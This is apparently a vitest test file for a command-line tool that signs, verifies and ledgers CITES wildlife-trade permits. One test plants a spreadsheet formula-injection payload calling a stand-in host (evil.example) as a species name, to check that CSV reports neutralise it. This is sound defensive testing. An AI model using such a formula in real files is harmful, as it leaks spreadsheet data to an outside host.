/** The exact flow the README and later tools rely on (issue: Foundation, CLI). */
import { createHash } from 'node:crypto'
import { describe, expect, it, beforeAll } from 'vitest'
import { mkdtempSync, readFileSync, writeFileSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { checkCodes, cites } from './run-cli.js'

describe('cites: keys -> trust list -> permit -> sign -> verify', () => {
  let dir: string
  const ok = (...args: string[]) => { const r = cites(dir, ...args); expect(r.code, `${args.join(' ')}\n${r.err}`).toBe(0); return r }

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'cites-cli-'))
    ok('keys', 'generate', '--anchor', '--out', 'anchor')
    ok('keys', 'generate', '--party', 'CH', '--out', 'keys/CH')
    ok('keys', 'generate', '--party', 'TH', '--out', 'keys/TH')
    ok('trust-list', 'create', '--anchor', 'anchor', '--out', 'tl.xml')
    ok('trust-list', 'add', 'tl.xml', '--keys', 'keys/CH', '--name', 'Federal Food Safety and Veterinary Office', '--role', 'management-authority', '--addr', '/ip4/127.0.0.1/tcp/7001')
    ok('trust-list', 'add', 'tl.xml', '--keys', 'keys/TH', '--name', 'Department of National Parks', '--role', 'management-authority', '--addr', '/ip4/127.0.0.1/tcp/7002')
    ok('trust-list', 'sign', 'tl.xml', '--anchor', 'anchor')
  })

  it('writes key folders with private keys readable by the owner only', () => {
    const id = JSON.parse(readFileSync(join(dir, 'keys/CH/identity.json'), 'utf8')) as { party: string, peerId: string }
    expect(id.party).toBe('CH')
    expect(id.peerId).toMatch(/^12D3KooW/)
    expect(statSync(join(dir, 'keys/CH/key.pem')).mode & 0o777).toBe(0o600)
    expect(statSync(join(dir, 'keys/CH/peer.key')).mode & 0o777).toBe(0o600)
    expect(readFileSync(join(dir, 'anchor/cert.pem'), 'utf8')).toMatch(/^-----BEGIN CERTIFICATE-----/)
  })

  it('shows the verified trust list', () => {
    const r = ok('trust-list', 'show', 'tl.xml', '--anchor', 'anchor/cert.pem', '--json')
    const j = JSON.parse(r.out) as { verified: boolean, list: { sequence: number, authorities: Array<{ party: string }> } }
    expect(j.verified).toBe(true)
    expect(j.list.sequence).toBe(1)
    expect(j.list.authorities.map((a) => a.party)).toEqual(['CH', 'TH'])
  })

  it('makes, imports, signs and verifies a permit; refuses a tampered copy and a foreign signer', () => {
    const made = ok('permit', 'new', '--number', '26CH000100', '--party', 'CH', '--exporter', 'Alpine Herpetoculture AG', '--exporter-country', 'CH',
      '--importer', 'Siam Reptile Park', '--importer-country', 'TH', '--line', 'A:Python regius:II:C:LIV:50:PCS', '--out', 'permit.json')
    expect(made.err).toContain('wrote permit.json')
    const imp = JSON.parse(ok('permit', 'import', 'permit.json', '--json').out) as { valid: boolean, permit: { number: string } }
    expect(imp).toMatchObject({ valid: true, permit: { number: '26CH000100' } })

    const signed = ok('permit', 'sign', '--key', 'keys/CH', 'permit.json').out
    writeFileSync(join(dir, 'signed.xml'), signed)
    const v = JSON.parse(ok('permit', 'verify', '--trust-list', 'tl.xml', '--anchor', 'anchor/cert.pem', 'signed.xml', '--json').out) as { valid: boolean, party: string }
    expect(v).toMatchObject({ valid: true, party: 'CH' })
    expect(ok('permit', 'verify', '--trust-list', 'tl.xml', '--anchor', 'anchor/cert.pem', 'signed.xml').out).toMatch(/^VALID: permit CH\/26CH000100/)

    writeFileSync(join(dir, 'tampered.xml'), signed.replace('unitCode="PCS">50<', 'unitCode="PCS">500<'))
    const bad = cites(dir, 'permit', 'verify', '--trust-list', 'tl.xml', '--anchor', 'anchor/cert.pem', 'tampered.xml', '--json')
    expect(bad.code).toBe(1)
    expect(checkCodes(bad.out).integrity).toBe('INVALID SIG_DIGEST_MISMATCH')

    const foreign = cites(dir, 'permit', 'sign', '--key', 'keys/TH', 'permit.json')
    expect(foreign.code).toBe(1)
    expect(foreign.err).toContain('ISSUER_NOT_SIGNER')
    expect(foreign.out).toBe('')
  })

  it('refuses to sign an Appendix I export without an import permit, and signs it with one', () => {
    const args = ['permit', 'new', '--number', '26CH000101', '--party', 'CH', '--exporter-country', 'CH', '--importer-country', 'TH', '--line', 'A:Panthera tigris:I:C:LIV:2']
    const r = cites(dir, ...args, '--out', 'app1.json')
    expect(r.code).toBe(1)
    expect(r.err).toContain('APPENDIX_I_IMPORT_PERMIT_MISSING')
    const s = cites(dir, 'permit', 'sign', '--key', 'keys/CH', 'app1.json')
    expect(s.code).toBe(1)
    expect(s.err).toContain('APPENDIX_I_IMPORT_PERMIT_MISSING')
    ok(...args, '--import-permit', '26TH000007', '--out', 'app1b.json')
    ok('permit', 'sign', '--key', 'keys/CH', 'app1b.json', '--out', 'app1b.xml')
  })

  it('a withdrawn certificate no longer signs new permits that verify', () => {
    const sha = (JSON.parse(readFileSync(join(dir, 'keys/CH/identity.json'), 'utf8')) as { certificateSha256: string }).certificateSha256
    writeFileSync(join(dir, 'tl2.xml'), readFileSync(join(dir, 'tl.xml')))
    ok('trust-list', 'withdraw', 'tl2.xml', '--cert', sha.slice(0, 12))
    ok('trust-list', 'sign', 'tl2.xml', '--anchor', 'anchor')
    ok('permit', 'new', '--number', '26CH000102', '--party', 'CH', '--exporter-country', 'CH', '--importer-country', 'TH', '--line', 'A:Python regius:II:C:LIV:5', '--out', 'late.json')
    ok('permit', 'sign', '--key', 'keys/CH', 'late.json', '--out', 'late.xml')
    const r = cites(dir, 'permit', 'verify', '--trust-list', 'tl2.xml', '--anchor', 'anchor', 'late.xml', '--json')
    expect(r.code).toBe(1)
    expect(checkCodes(r.out)).toMatchObject({ integrity: 'VALID OK', issuer: 'INVALID ISSUER_CERT_NOT_GRANTED' })
  })

  it('ledger: records, endorses and consumes once; show, list, report, verify-log and rebuild work on it', () => {
    const L = ['--db', 'ledger']
    const T = ['--trust-list', 'tl.xml', '--anchor', 'anchor/cert.pem']
    ok('permit', 'new', '--number', '26CH000300', '--party', 'CH', '--exporter-country', 'CH', '--importer-country', 'TH', '--line', 'A:Python regius:II:C:LIV:50:PCS', '--out', 'p300.json')
    ok('permit', 'sign', '--key', 'keys/CH', 'p300.json', '--out', 'p300.xml')
    expect(cites(dir, 'ledger', 'show', 'CH', '26CH000300', ...L).code).toBe(2) // no ledger yet
    ok('ledger', 'record', 'p300.xml', ...L, '--key', 'keys/CH', ...T)
    expect(cites(dir, 'ledger', 'record', 'p300.xml', ...L, '--key', 'keys/CH', ...T).err).toContain('DUPLICATE_NUMBER')
    // Issue 16: another spelling of the number is the same number.
    const p300b = JSON.parse(readFileSync(join(dir, 'p300.json'), 'utf8')) as { number: string }
    writeFileSync(join(dir, 'p300b.json'), JSON.stringify({ ...p300b, number: '026ch 000300.' }))
    ok('permit', 'sign', '--key', 'keys/CH', 'p300b.json', '--out', 'p300b.xml')
    const lookAlike = cites(dir, 'ledger', 'record', 'p300b.xml', ...L, '--key', 'keys/CH', ...T)
    expect([lookAlike.code, lookAlike.err]).toEqual([1, expect.stringContaining('DUPLICATE_NUMBER')])
    ok('ledger', 'endorse', 'CH', '26CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:40:PCS', '--port', 'CHZRH')
    const over = cites(dir, 'ledger', 'consume', 'CH', '26CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:41:PCS', '--port', 'THBKK')
    expect([over.code, over.err]).toEqual([1, expect.stringContaining('QUANTITY_EXCEEDED')])
    const first = JSON.parse(ok('ledger', 'consume', 'CH', '26CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:40:PCS', '--port', 'THBKK', '--json').out) as { seq: number }
    const again = cites(dir, 'ledger', 'consume', 'CH', '26CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:40:PCS', '--port', 'CNSHA', '--json')
    expect(again.code).toBe(1)
    expect(JSON.parse(again.err)).toMatchObject({ error: { code: 'ALREADY_CONSUMED', details: { receipt: { seq: first.seq, port: 'THBKK' } } } })
    const view = JSON.parse(ok('ledger', 'show', 'CH', '26CH000300', ...L, '--json').out) as { status: string, history: Array<{ type: string }> }
    expect(view.status).toBe('CONSUMED')
    expect(view.history.map((h) => h.type)).toEqual(['ISSUED', 'EXPORT_ENDORSED', 'CONSUMED'])
    expect(ok('ledger', 'show', 'CH', '26CH000300', ...L, '--xml').out).toBe(readFileSync(join(dir, 'p300.xml'), 'utf8'))
    expect(cites(dir, 'ledger', 'show', 'CH', 'NOPE', ...L).code).toBe(1)
    expect(JSON.parse(ok('ledger', 'show', 'CH', '26ch-000300', ...L, '--json').out)).toMatchObject({ state: { number: '26CH000300' }, status: 'CONSUMED' })
    expect(cites(dir, 'ledger', 'consume', 'CH', '２６CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:1:PCS', '--port', 'CNSHA').err).toContain('ALREADY_CONSUMED')
    expect(ok('ledger', 'list', ...L, '--status', 'CONSUMED', '--count').out.trim()).toBe('1')
    expect(JSON.parse(ok('ledger', 'list', ...L, '--species', 'Python regius', '--json').out)).toMatchObject({ items: [{ number: '26CH000300', status: 'CONSUMED' }] })
    const csv = ok('ledger', 'report', ...L, '--year', String(new Date().getUTCFullYear()), '--kind', 'exports').out
    expect(csv).toContain('Python regius,LIV,40,,TH,,26CH000300,') // Box 14's 40; a number of specimens is a blank unit
    expect(ok('ledger', 'verify-log', ...L, ...T).out).toContain('CH: 3 events')
    expect(cites(dir, 'ledger', 'verify-log', ...L).code).toBe(2) // needs the trust list
    expect(ok('ledger', 'rebuild', ...L).out).toContain('1 permits from 3 events')
    expect(ok('ledger', 'list', ...L, '--status', 'CONSUMED', '--count').out.trim()).toBe('1')
    // Issue 13: erasure by hand. Not before the retention clock (Box 2's end, the last event); then the document and its key go.
    expect(JSON.parse(ok('ledger', 'purge', ...L, '--before', '2000-01-01', '--json').out)).toMatchObject({ erased: 0, held: 1 })
    expect(JSON.parse(ok('ledger', 'purge', ...L, '--before', '2100-01-01', '--json').out)).toMatchObject({ erased: 1, held: 0 })
    const erased = cites(dir, 'ledger', 'show', 'CH', '26CH000300', ...L, '--xml')
    expect([erased.code, erased.err]).toEqual([1, expect.stringContaining('DOCUMENT_ERASED')])
    expect(ok('ledger', 'verify-log', ...L, ...T).out).toContain('CH: 3 events')
    expect(JSON.parse(ok('ledger', 'show', 'CH', '26CH000300', ...L, '--json').out)).toMatchObject({ status: 'CONSUMED', state: { xmlSha256: createHash('sha256').update(readFileSync(join(dir, 'p300.xml'))).digest('hex') } })
    expect(cites(dir, 'ledger', 'purge', ...L, '--before', 'someday').code).toBe(2)
    // 33 CLI processes, one after the other: 181 s of the suite's 240 s on a loaded 2-core run.
  }, 480_000)

  it('ledger report: a species name that is a spreadsheet formula is written as text, to stdout and to --out (issue 16)', () => {
    const L = ['--db', 'ledger']
    const T = ['--trust-list', 'tl.xml', '--anchor', 'anchor/cert.pem']
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    const p = JSON.parse(readFileSync(join(dir, 'p300.json'), 'utf8')) as { number: string, lines: Array<{ scientificName: string }> }
    p.number = '26CH000301'
    p.lines[0]!.scientificName = evil
    writeFileSync(join(dir, 'p301.json'), JSON.stringify(p))
    ok('permit', 'sign', '--key', 'keys/CH', 'p301.json', '--out', 'p301.xml')
    ok('ledger', 'record', 'p301.xml', ...L, '--key', 'keys/CH', ...T)
    ok('ledger', 'endorse', 'CH', '26CH000301', ...L, '--key', 'keys/CH', ...T, '--line', 'A:5:PCS', '--port', 'CHZRH')
    const year = String(new Date().getUTCFullYear())
    const neutralised = `"'${evil.replace(/"/g, '""')}"`
    const out = ok('ledger', 'report', ...L, '--year', year, '--kind', 'exports').out
    ok('ledger', 'report', ...L, '--year', year, '--out', 'report')
    for (const csv of [out, readFileSync(join(dir, 'report', `cites-annual-report-CH-${year}-exports.csv`), 'utf8')]) {
      const row = csv.split('\n').find((l) => l.includes('26CH000301'))
      expect(row).toContain(`${neutralised},LIV,5,,TH,`)
      // No field of any row starts with a formula character.
      for (const line of csv.trim().split('\n')) expect(line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([])
    }
  })
})
